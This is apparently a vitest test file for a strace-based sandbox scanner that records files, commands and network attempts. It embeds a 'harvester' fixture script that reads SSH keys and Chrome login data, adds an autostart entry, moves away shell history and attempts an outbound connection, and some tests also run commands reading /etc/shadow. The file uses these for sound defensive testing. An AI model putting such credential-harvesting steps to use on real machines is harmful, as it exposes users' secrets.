import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { detectSandbox, spawnSandboxed } from '#lib/scans/sandbox/index.ts';
import { queriedName } from '#lib/scans/sandbox/trace-dns.ts';
import { descriptorPath, LineReader, stringsOf } from '#lib/scans/sandbox/trace-line.ts';
import { TRACE_LIMITS, TraceReader } from '#lib/scans/sandbox/trace-reader.ts';
import { hostileServers, SANDBOX_MODES, sandboxOrSkip, temporaryDirectory } from './hostile.ts';

const QUERY = Buffer.from(
  '\x1d\x41\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x07example\x00\x00\x01\x00\x01',
  'latin1',
);

describe('a line of the log', () => {
  it('is read whole, and put together where a call was interrupted', () => {
    const lines = new LineReader();
    expect(lines.read('12  openat(AT_FDCWD</tmp>, "a b", O_RDONLY) = 3</tmp/a b>')).toEqual({
      pid: '12',
      name: 'openat',
      args: 'AT_FDCWD</tmp>, "a b", O_RDONLY',
      result: '3</tmp/a b>',
    });
    expect(lines.read('12  openat(AT_FDCWD</tmp>, "x", O_RDONLY <unfinished ...>')).toBeNull();
    expect(
      lines.read('13  openat(AT_FDCWD</tmp>, "y", O_RDONLY) = -1 ENOENT (No such file or directory)'),
    ).not.toBeNull();
    expect(lines.read('12  <... openat resumed>) = 4</tmp/x>')).toMatchObject({ pid: '12', result: '4</tmp/x>' });
  });

  it.each(['', '12', '+++ exited with 0 +++', '12  <... openat resumed>) = 4', '12  openat(', '\0\0'])(
    'is left out where it is no call: %j',
    (line) => expect(new LineReader().read(line)).toBeNull(),
  );

  it('has its strings and paths with what strace escapes', () => {
    expect(stringsOf('"a\\"b\\\\", "\\35A\\1\\0\\n"').map((bytes) => bytes.toString('latin1'))).toEqual([
      'a"b\\',
      '\x1dA\x01\0\n',
    ]);
    expect(descriptorPath('3</home/x\\74y>')).toBe('/home/x<y');
    expect(descriptorPath('3<socket:[12]>')).toBeNull();
  });
});

describe('a datagram', () => {
  it('says which name it asks for', () => expect(queriedName(QUERY)).toBe('evil.example'));

  it.each([
    ['an answer', Buffer.from(QUERY).fill(0x81, 2, 3)],
    ['too short', QUERY.subarray(0, 14)],
    ['a label that leads out of it', Buffer.from(QUERY).fill(63, 12, 13)],
    ['something else', Buffer.from('GET / HTTP/1.1\r\nhost: evil.example\r\n\r\n')],
  ])('says nothing where it is no query: %s', (_, datagram) => expect(queriedName(datagram)).toBeNull());
});

describe('the log', () => {
  const start =
    '9  execve("/usr/bin/env", ["/usr/bin/env", "-i", "node"], 0x1) = 0\n9  execve("/opt/node/bin/node", ["node"], 0x2) = 0\n';

  it('begins with the command, not with what sets up the sandbox', () => {
    const reader = new TraceReader({ starter: ['/usr/bin/env', '-i'], ownPlaces: ['/app'] });
    reader.push(Buffer.from('8  openat(AT_FDCWD</>, "/etc/shadow", O_RDONLY) = 3</etc/shadow>\n'));
    expect(reader.result()).toBeNull();
    reader.push(Buffer.from(start));
    reader.push(Buffer.from('8  openat(AT_FDCWD</>, "/etc/gshadow", O_RDONLY) = 3</etc/gshadow>\n'));
    reader.push(Buffer.from('9  openat(AT_FDCWD</app>, "index.js", O_RDONLY) = 3</app/index.js>\n'));
    reader.push(Buffer.from('9  openat(AT_FDCWD</app>, "../root/.a", O_RDONLY) = -1 ENOENT (No such file)\n'));
    expect(reader.result()?.files).toEqual([{ path: '/root/.a', access: 'read', isFound: false }]);
  });

  it('stays bounded whatever is opened, and says so', () => {
    const reader = new TraceReader({ starter: ['/usr/bin/env', '-i'], ownPlaces: [] });
    reader.push(Buffer.from(start));
    for (let i = 0; i < 2 * TRACE_LIMITS.files; i++) {
      reader.push(Buffer.from(`9  openat(AT_FDCWD</>, "/root/${i}", O_RDONLY) = -1 ENOENT (No such file)\n`));
    }
    expect(reader.result()?.files).toHaveLength(TRACE_LIMITS.files);
    expect(reader.result()?.isCut).toBe(true);
  });
});

const HARVESTER = `
import { execFile } from 'node:child_process';
import { lookup } from 'node:dns';
import { mkdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
const home = process.env.HOME;
const quietly = (act) => { try { act(); } catch {} };
readFileSync(home + '/.ssh/id_rsa');
symlinkSync(home + '/.config/google-chrome', '/tmp/innocent');
readFileSync('/tmp/innocent/Default/Login Data');
quietly(() => readFileSync('/root/.bashrc'));
mkdirSync(home + '/.config/autostart', { recursive: true });
writeFileSync(home + '/.config/autostart/a.desktop', 'x');
renameSync(home + '/.bash_history', home + '/gone');
writeFileSync('/tmp/own', 'x');
connect(443, '192.0.2.1').on('error', () => {});
lookup('tries.example', () => {});
execFile('nosuchprogram', ['--send', 'x'], () => {});
`;

describe('a machine without strace', () => {
  it('says so, and scans as before', async (ctx) => {
    const sandbox = await detectSandbox({ strace: '/nowhere/strace' });
    if (!sandbox.available) return ctx.skip(`no sandbox: ${sandbox.reason}`);
    expect(sandbox.tracing).toEqual({ available: false, reason: expect.stringMatching(/apt install strace/) });
    const command = ['sh', '-c', 'cat /etc/shadow 2>/dev/null; ls -A $HOME'];
    const { stdout, ended } = await spawnSandboxed({ sandbox, isTraced: true, command });
    stdout.resume();
    const { observed, usage } = await ended;
    expect(observed.trace).toBeNull();
    expect(usage.stdoutBytes).toBe(0);
  });

  it('does not take a program that follows nothing for strace', async (ctx) => {
    const pretender = join(temporaryDirectory(), 'strace');
    writeFileSync(pretender, '#!/bin/sh\nwhile [ "$1" != -- ]; do shift; done\nshift\nexec "$@"\n', { mode: 0o755 });
    const sandbox = await detectSandbox({ strace: pretender });
    if (!sandbox.available) return ctx.skip(`no sandbox: ${sandbox.reason}`);
    expect(sandbox.tracing).toMatchObject({ available: false, reason: expect.stringMatching(/cannot follow/) });
  });
});

describe.each(SANDBOX_MODES)('a traced command (%s)', (mode) => {
  it('shows what it opened, changed, started and tried to reach', async (ctx) => {
    const sandbox = await sandboxOrSkip(ctx, mode);
    if (!sandbox.tracing?.available) return ctx.skip(`no tracing: ${sandbox.tracing?.reason}`);
    writeFileSync(join(hostileServers, 'harvester.mjs'), HARVESTER);
    const { stdout, ended } = await spawnSandboxed({
      sandbox,
      isTraced: true,
      command: ['node', '/app/harvester.mjs'],
      readOnlyPaths: [{ source: hostileServers, target: '/app' }],
    });
    stdout.resume();
    const end = await ended;
    expect(end).toMatchObject({ kind: 'exited', exitCode: 0 });
    expect(end.observed.trace).toEqual({
      files: [
        { path: '/home/sandbox/.bash_history', access: 'write', isFound: true },
        { path: '/home/sandbox/.config/autostart/a.desktop', access: 'write', isFound: true },
        { path: '/home/sandbox/.config/google-chrome/Default/Login Data', access: 'read', isFound: true },
        { path: '/home/sandbox/.ssh/id_rsa', access: 'read', isFound: true },
        { path: '/root/.bashrc', access: 'read', isFound: false },
      ],
      commands: [['nosuchprogram', '--send', 'x']],
      addresses: ['192.0.2.1:443'],
      names: ['tries.example'],
      isCut: false,
    });
  });

  it('cannot write into the log, nor get away from it', async (ctx) => {
    const sandbox = await sandboxOrSkip(ctx, mode);
    if (!sandbox.tracing?.available) return ctx.skip(`no tracing: ${sandbox.tracing?.reason}`);
    const script = `
      for fd in 3 4 5 6 7 8 9; do echo '9  openat(AT_FDCWD</>, "/forged", O_RDONLY) = 3</forged>' >&$fd; done 2>/dev/null
      (setsid sh -c 'cat /root/later' 2>/dev/null &) ; sleep 0.3`;
    const { stdout, ended } = await spawnSandboxed({ sandbox, isTraced: true, command: ['sh', '-c', script] });
    stdout.resume();
    const { observed } = await ended;
    expect(observed.trace?.files.map(({ path }) => path)).toEqual(['/root/later']);
  });

  it('is not traced where nobody asks for it, and finds no decoys then', async (ctx) => {
    const sandbox = await sandboxOrSkip(ctx, mode);
    const { stdout, ended } = await spawnSandboxed({ sandbox, command: ['sh', '-c', 'ls -A $HOME'] });
    let output = '';
    for await (const chunk of stdout) output += String(chunk);
    expect(output).toBe('');
    expect((await ended).observed.trace).toBeNull();
  });
});
